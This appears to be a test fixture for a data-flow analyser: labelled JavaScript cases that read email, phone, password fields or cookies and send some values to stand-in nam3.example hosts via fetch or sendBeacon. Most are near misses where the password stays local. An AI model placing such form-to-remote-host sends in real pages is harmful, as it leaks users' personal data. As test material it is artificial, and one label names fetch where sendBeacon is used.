//# same-property-other-object
// flow: email > one.nam3.example via fetch
// why: near miss: both objects have a property data, only the e-mail's is sent
const a1 = { data: document.querySelector('input[type=email]').value };
const b1 = { data: document.querySelector('input[type=password]').value };
fetch('https://one.nam3.example/', { method: 'POST', body: a1.data });
console.log(b1.data.length);

//# two-instances-of-a-class
// flow: email > two.nam3.example via fetch
// why: near miss: the other instance holds the password and is not sent
class Box { constructor(v) { this.v = v; } get() { return this.v; } }
const mail2 = new Box(document.querySelector('input[type=email]').value);
const pass2 = new Box(document.querySelector('input[type=password]').value);
navigator.sendBeacon('https://two.nam3.example/', mail2.get());
console.log(pass2.get() === '');

//# field-of-two-instances
// flow: phone > fld.nam3.example via fetch
// why: near miss: the field is read of the first instance, the password is in the second
class Entry3 { constructor(value) { this.value = value; } }
const first3 = new Entry3(document.querySelector('input[type=tel]').value);
const second3 = new Entry3(document.querySelector('input[type=password]').value);
fetch('https://fld.nam3.example/', { method: 'POST', body: JSON.stringify({ v: first3.value }) });

//# two-closures-of-one-factory
// flow: username > fac.nam3.example via fetch
// why: near miss: each call of the factory has a variable of its own
function cell(v) { return { read: () => v }; }
const u4 = cell(document.querySelector('input[name=username]').value);
const p4 = cell(document.querySelector('input[type=password]').value);
fetch('https://fac.nam3.example/?u=' + u4.read());

//# setter-of-other-closure
// no flow
// why: the counter that is sent is another closure than the one that was given the password
function make5() { let kept = 'none'; return { put(v) { kept = v; }, take() { return kept; } }; }
const x5 = make5();
const y5 = make5();
x5.put(document.querySelector('input[type=password]').value);
fetch('https://set0.nam3.example/', { method: 'POST', body: y5.take() });

//# shadowed-variable
// no flow
// why: the inner variable of the same name holds the password, the outer one is sent
const token6 = 'public';
{
  const token6 = document.querySelector('input[type=password]').value;
  console.log(token6.length);
}
fetch('https://shadow.nam3.example/?t=' + token6);

//# shadowed-parameter
// no flow
// why: the parameter hides the variable that holds the cookie
const id7 = document.cookie;
function ping7(id7) { navigator.sendBeacon('https://param.nam3.example/', id7); }
ping7('fixed');

//# array-index
// flow: email > idx.nam3.example via fetch
// why: near miss: the password is the second element
const row8 = [document.querySelector('input[type=email]').value, document.querySelector('input[type=password]').value];
fetch('https://idx.nam3.example/', { method: 'POST', body: row8[0] });

//# array-pattern
// flow: search > pat.nam3.example via fetch
// why: near miss: the pattern skips the password
const [, q9] = [document.querySelector('input[type=password]').value, document.querySelector('input[type=search]').value];
fetch('https://pat.nam3.example/?q=' + q9);

//# map-keys
// flow: email > map.nam3.example via fetch
// why: near miss: the password is under another key
const m10 = new Map();
m10.set('mail', document.querySelector('input[type=email]').value);
m10.set('pw', document.querySelector('input[type=password]').value);
fetch('https://map.nam3.example/', { method: 'POST', body: m10.get('mail') });

//# map-from-entries
// flow: email > ment.nam3.example via fetch
// why: near miss: the password is under another key
const m11 = new Map([['mail', document.querySelector('input[type=email]').value], ['pw', document.querySelector('input[type=password]').value]]);
fetch('https://ment.nam3.example/', { method: 'POST', body: m11.get('mail') });

//# weakmap-of-two-keys
// flow: phone > wm.nam3.example via fetch
// why: near miss: the password is kept for the other object
const priv12 = new WeakMap();
const ka = {};
const kb = {};
priv12.set(ka, document.querySelector('input[type=tel]').value);
priv12.set(kb, document.querySelector('input[type=password]').value);
fetch('https://wm.nam3.example/', { method: 'POST', body: priv12.get(ka) });

//# rest-without-password
// flow: email > rest.nam3.example via fetch
// why: near miss: the pattern takes the password out of the rest
const form13 = { email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value };
const { password: dropped13, ...safe13 } = form13;
fetch('https://rest.nam3.example/', { method: 'POST', body: JSON.stringify(safe13) });

//# omit-helper
// flow: email > omit.nam3.example via fetch
// why: near miss: the helper leaves the password out
function omit14(o, names) { const out = {}; for (const k of Object.keys(o)) if (!names.includes(k)) out[k] = o[k]; return out; }
const form14 = { email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value };
fetch('https://omit.nam3.example/', { method: 'POST', body: JSON.stringify(omit14(form14, ['password'])) });

//# pick-helper
// flow: email > pick.nam3.example via fetch
// why: near miss: only the e-mail is picked
const pick15 = (o, names) => names.reduce((out, k) => ({ ...out, [k]: o[k] }), {});
const form15 = { email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value };
fetch('https://pick.nam3.example/', { method: 'POST', body: JSON.stringify(pick15(form15, ['email'])) });

//# pick-by-from-entries
// flow: email > pfe.nam3.example via fetch
// why: near miss: only the listed keys are copied
const form16 = { email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value };
const sent16 = Object.fromEntries(['email'].map((k) => [k, form16[k]]));
fetch('https://pfe.nam3.example/', { method: 'POST', body: JSON.stringify(sent16) });

//# json-round-trip-with-picked-key
// flow: email > json.nam3.example via fetch
// why: near miss: of the parsed text only one key is sent
const text17 = JSON.stringify({ email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value });
fetch('https://json.nam3.example/', { method: 'POST', body: JSON.parse(text17).email });

//# nested-same-name
// flow: email > nest.nam3.example via fetch
// why: near miss: both branches have a value of the same name
const tree18 = { a: { value: document.querySelector('input[type=email]').value }, b: { value: document.querySelector('input[type=password]').value } };
fetch('https://nest.nam3.example/', { method: 'POST', body: tree18.a.value });

//# method-of-same-name
// no flow
// why: both objects have a method save; the one that sends gets no typed text
const local19 = { save(v) { localStorage.setItem('draft', v); } };
const remote19 = { save(v) { fetch('https://meth.nam3.example/', { method: 'POST', body: v }); } };
local19.save(document.querySelector('textarea[name=message]').value);
remote19.save('ready');

//# classes-with-the-same-method
// no flow
// why: the form goes to the class that only shows it
class Show20 { handle(v) { document.title = v; } }
class Send20 { handle(v) { navigator.sendBeacon('https://cls.nam3.example/', v); } }
new Show20().handle(document.querySelector('input[type=email]').value);
new Send20().handle('up');

//# symbol-keys
// flow: search > sym.nam3.example via fetch
// why: near miss: the two symbols have the same description
const s21 = Symbol('v');
const t21 = Symbol('v');
const o21 = { [s21]: document.querySelector('input[type=search]').value, [t21]: document.querySelector('input[type=password]').value };
fetch('https://sym.nam3.example/?q=' + o21[s21]);

//# static-of-two-classes
// no flow
// why: the other class keeps the cookie under the same static name
class Left22 { static last = 'none'; }
class Right22 { static last = document.cookie; }
fetch('https://stat.nam3.example/?l=' + Left22.last);
console.log(Right22.last.length);

//# private-field
// flow: email > priv.nam3.example via fetch
// why: near miss: the private field of the same name holds the password and is never shown
class Form23 {
  #value = document.querySelector('input[type=password]').value;
  value = document.querySelector('input[type=email]').value;
  strong() { return this.#value.length > 8; }
  send() { if (this.strong()) fetch('https://priv.nam3.example/', { method: 'POST', body: this.value }); }
}
new Form23().send();

//# arguments-by-position
// no flow
// why: the cookie is the second argument, the first is sent
function post24(text, unused) { fetch('https://pos.nam3.example/', { method: 'POST', body: text }); }
post24('hello', document.cookie);

//# callbacks-by-position
// no flow
// why: the first callback gets the message and does not send, the second sends a constant
function run25(v, done, failed) { v ? done(v) : failed('empty'); }
run25(document.querySelector('textarea[name=message]').value, (v) => { document.title = v; }, (e) => fetch('https://cbp.nam3.example/?e=' + e));

//# computed-key-of-table
// flow: phone > tab.nam3.example via fetch
// why: near miss: the key is a constant, the password is under another
const key26 = 'tel';
const tab26 = { tel: document.querySelector('input[type=tel]').value, pw: document.querySelector('input[type=password]').value };
fetch('https://tab.nam3.example/', { method: 'POST', body: tab26[key26] });

//# getter-of-other-name
// no flow
// why: the getter that is read gives the length, not the text
const acc27 = { _pw: document.querySelector('input[type=password]').value, get strength() { return this._pw.length; }, get pw() { return this._pw; } };
fetch('https://gett.nam3.example/?s=' + acc27.strength);

//# events-of-two-buses
// no flow
// why: the password is told on the bus that nobody sends from
function bus28() { const fs = {}; return { on(n, f) { (fs[n] = fs[n] || []).push(f); }, emit(n, v) { (fs[n] || []).forEach((f) => f(v)); } }; }
const in28 = bus28();
const out28 = bus28();
out28.on('data', (v) => fetch('https://bus.nam3.example/', { method: 'POST', body: v }));
in28.on('data', (v) => console.log(v.length));
in28.emit('data', document.querySelector('input[type=password]').value);

//# event-of-other-name
// no flow
// why: the handler that sends is registered for another event
class Emitter29 { constructor() { this.h = {}; } on(n, f) { this.h[n] = f; } emit(n, v) { if (this.h[n]) this.h[n](v); } }
const em29 = new Emitter29();
em29.on('flush', (v) => navigator.sendBeacon('https://evn.nam3.example/', v));
em29.on('typed', (v) => console.log(v.length));
em29.emit('typed', document.querySelector('input[type=password]').value);
em29.emit('flush', 'now');
